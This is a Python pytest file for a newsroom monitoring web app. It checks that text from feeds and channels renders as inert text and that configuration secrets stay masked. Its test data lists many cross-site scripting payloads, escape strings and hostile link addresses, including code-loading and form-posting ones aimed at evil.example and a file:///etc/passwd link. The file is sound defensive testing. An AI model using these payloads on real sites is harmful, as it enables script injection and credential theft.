"""Whatever a feed, a server or a channel wrote is text on the page: never an element, an attribute or a script.

The proof is a comparison: a page of a newsroom whose every field attacks has the very same elements and attributes as the page of
one whose fields are harmless.
"""

from __future__ import annotations

import asyncio
from pathlib import Path
from typing import Any
from xml.etree.ElementTree import Element

import html5lib
import pytest
from fakes import MemoryStore
from page_values import ask, clock, configure, newsroom

from monitor.web.app import make_app

#: ways out of wherever a text may stand
WAYS_OUT = (
    "",
    "'\">",
    '" ',
    "' ",
    "</title>",
    "</style></textarea>",
    "--><!--",
    "]]><![CDATA[",
    "</a></h2></article>",
    "\\\"'`",
    "&quot;&#34;&#x22;>",
)
ATTACKS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>read on</a>",
    "<math><mi xlink:href=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'//evil.example/x.css'</style>",
    "<form action=//evil.example><input name=password>",
    "<object data=javascript:alert(1)><embed src=//evil.example>",
    "<template><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    " onmouseover=alert(1) autofocus tabindex=1 x=",
    "{{ 7 * 7 }}{% raw %}{{ config.web.password }}",
    "${alert(1)}<%= 7 * 7 %>",
    "\u202e\u2066<b>\u200b\x00\x1b[31m\ud800\x7f",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)
#: what may stand where a link is expected
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript://https://news.example/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/",
    "https:evil.example",
    "https://user@evil.example/",
    "https://news.example\\@evil.example/",
    'https://news.example/" onmouseover="alert(1)',
    "https://news.example/'><script>alert(1)</script>",
    "https://[::1/",
    "",
)
_ELEMENTS = frozenset(
    "html head meta title link body a header p time span nav main div h1 h2 h3 section article blockquote del ins footer ol ul li b details summary "
    "table thead tbody tr th td code".split()
)
_ATTRIBUTES = frozenset(
    "lang charset name content rel type href class id datetime aria-label aria-labelledby aria-current dir reversed scope data-label".split()
)


ATTACKED = ("/", "/story/st1", "/feeds", "/outbox")


async def pages(folder: Path, say: Any, address: Any = lambda url: url, topic: str = "Venezuela") -> dict[str, str]:
    store = MemoryStore()
    newsroom(store, say, address)
    app = make_app(configure(folder, topic=topic), store, clock)
    answers = {path: await ask(app, path) for path in ATTACKED}
    assert {answer.status for answer in answers.values()} == {200}
    return {path: answer.text for path, answer in answers.items()}


Elements = list[tuple[str, dict[str, str]]]


def elements(html: str) -> Elements:
    """Every element of a page with its attributes, as a browser's parser understands them."""
    tree: Element = html5lib.parse(html, namespaceHTMLElements=False)
    return [(element.tag, dict(element.attrib)) for element in tree.iter() if isinstance(element.tag, str)]


def skeleton(page: Elements) -> list[tuple[str, tuple[str, ...]]]:
    return [(tag, tuple(sorted(attributes))) for tag, attributes in page]


def must_be_harmless(page: Elements) -> None:
    for tag, attributes in page:
        assert tag in _ELEMENTS
        assert set(attributes) <= _ATTRIBUTES, (tag, attributes)
        address = attributes.get("href", "https://")
        assert (
            address.startswith(("https://", "http://", "/static/", "/story/", "/feeds", "/outbox", "/?", "#"))
            or address == "/"
        )
        assert not address.startswith("//")
        if address.startswith("http") and tag == "a":
            assert {"noopener", "noreferrer"} <= set(attributes["rel"].split())


@pytest.fixture(scope="module")
def calm(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """The pages of a newsroom in which nobody means harm."""
    made = asyncio.run(pages(tmp_path_factory.mktemp("calm"), lambda text: text + "!"))
    return {path: skeleton(elements(html)) for path, html in made.items()}


@pytest.mark.parametrize("attack", ATTACKS)
async def test_an_attack_in_every_field_changes_nothing_but_the_text(tmp_path: Path, calm: Any, attack: str) -> None:
    attacked = await pages(
        tmp_path, lambda text: text + "'\">" + attack, topic='Venezuela"><img src=x onerror=alert(1)>'
    )
    for path, html in attacked.items():
        page = elements(html)
        must_be_harmless(page)
        assert skeleton(page) == calm[path], path


@pytest.mark.parametrize("way_out", WAYS_OUT)
async def test_no_way_out_of_where_a_text_stands_leads_anywhere(tmp_path: Path, calm: Any, way_out: str) -> None:
    attacked = await pages(tmp_path, lambda text: f"{text}{way_out}<img src=x onerror=alert(1)>")
    for path, html in attacked.items():
        assert skeleton(elements(html)) == calm[path], path


@pytest.mark.parametrize("address", ADDRESSES)
async def test_a_link_leads_to_the_web_or_is_no_link(tmp_path: Path, address: str) -> None:
    for html in (await pages(tmp_path, lambda text: text, lambda _: address)).values():
        page = elements(html)
        must_be_harmless(page)
        assert not [one for tag, one in page if tag == "a" and "evil.example" in one.get("href", "")]


async def test_addresses_on_the_page_are_the_newsrooms_own(tmp_path: Path) -> None:
    for html in (await pages(tmp_path, lambda text: text)).values():
        must_be_harmless(elements(html))
    assert 'href="https://wire.example/figure"' in (await pages(tmp_path, lambda text: text))["/story/st1"]


async def test_what_the_visitor_asks_for_is_never_repeated(tmp_path: Path) -> None:
    store = MemoryStore()
    newsroom(store)
    app = make_app(configure(tmp_path), store, clock)
    attack = "<script>alert(1)</script>"
    for path in (
        f"/{attack}",
        f"/story/{attack}",
        f"/?hours={attack}&topic={attack}&live={attack}",
        f"/outbox?state={attack}",
        f"/static/{attack}",
    ):
        answer = await ask(app, path)
        assert "alert(1)" not in answer.text
        must_be_harmless(elements(answer.text))


async def test_secrets_of_the_configuration_are_masked_in_what_others_said(tmp_path: Path) -> None:
    feed = '[[feed]]\nurl = "https://herald.example/rss?token=hidden"\n[[channel]]\nid = "desk"\nurl = "https://user:pa55word@chat.example/T0K3N/long"\n'
    store = MemoryStore()
    newsroom(store, lambda text: f"{text} pa55word https://user:pa55word@chat.example/T0K3N/long token=hidden")
    app = make_app(configure(tmp_path, more=feed), store, clock)
    for path, what in (("/feeds", "HTTP 403"), ("/outbox", "550 refused"), ("/outbox", "250 accepted")):
        html = (await ask(app, path)).text
        line = html[html.index(what) :].partition("</")[0]
        assert "pa55word" not in line
        assert "T0K3N" not in line
        assert "token=hidden" not in line
